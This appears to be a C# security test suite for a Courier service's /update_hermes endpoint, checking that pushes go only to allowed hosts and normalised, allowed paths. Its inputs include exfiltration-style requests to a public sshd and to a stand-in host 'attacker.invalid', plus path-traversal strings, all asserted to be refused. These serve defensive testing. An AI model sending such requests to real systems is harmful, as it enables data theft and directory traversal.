using System.Net;

namespace Courier.Security.Tests;

/// <summary>What a caller of /update_hermes can make Courier do: push only to allowed hosts, only into allowed paths.</summary>
[Collection(SecuredSiteCollection.Name)]
public sealed class UpdateHermesLimitTests(SecuredSite site)
{
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Exfiltration_to_a_public_sshd_is_refused_and_nothing_is_sent(bool withToken)
    {
        using var client = withToken ? site.PublicClient() : site.AgentClient();
        var json = $$"""{"ssh": "{{SecuredSite.PublicCallerAddress}}:22", "path": "{{site.StolenDirectory}}"}""";

        var (status, body) = await SecuredSite.SendAsync(client, "/update_hermes", json, bearer: withToken ? SecuredSite.Token : null);

        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.Contains("Courier:UpdateHermes:AllowedTargets", body, StringComparison.Ordinal);
        Assert.Empty(Directory.EnumerateFileSystemEntries(site.StolenDirectory));
    }

    [Theory]
    [InlineData("/")]
    [InlineData("//")]
    [InlineData("/etc/opt/../..")]
    [InlineData("/etc/opt/..")]
    [InlineData("/etc//opt")]
    [InlineData("/etc/opt/./x")]
    [InlineData("/srv/config")]
    [InlineData("/etc/optional")]
    [InlineData("etc/opt")]
    public async Task A_path_that_is_not_normalised_or_not_allowed_is_refused_with_400(string path)
    {
        using var client = site.AgentClient();
        var json = $$"""{"ssh": "{{site.Target.Endpoint}}", "path": "{{path}}"}""";

        var (status, body) = await SecuredSite.SendAsync(client, "/update_hermes", json);

        Assert.Equal(HttpStatusCode.BadRequest, status);
        Assert.Contains("path", body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_host_name_is_resolved_and_its_addresses_checked()
    {
        using var client = site.AgentClient();
        var agentPath = Path.Combine(site.AgentDirectory, "by-name");
        Directory.CreateDirectory(agentPath);

        var answer = await SecuredSite.SendAsync(client, "/update_hermes", $$"""{"ssh": "localhost:{{site.Target.Port}}", "path": "{{agentPath}}"}""");

        Assert.Equal((HttpStatusCode.OK, "ok"), answer);
        Assert.True(File.Exists(Path.Combine(agentPath, "secrets", "db.conf")));
    }

    [Fact]
    public async Task A_host_name_that_does_not_resolve_is_refused()
    {
        using var client = site.AgentClient();

        var (status, body) = await SecuredSite.SendAsync(client, "/update_hermes", $$"""{"ssh": "attacker.invalid:22", "path": "{{site.StolenDirectory}}"}""");

        Assert.Equal(HttpStatusCode.Forbidden, status);
        Assert.Contains("attacker.invalid", body, StringComparison.Ordinal);
    }
}
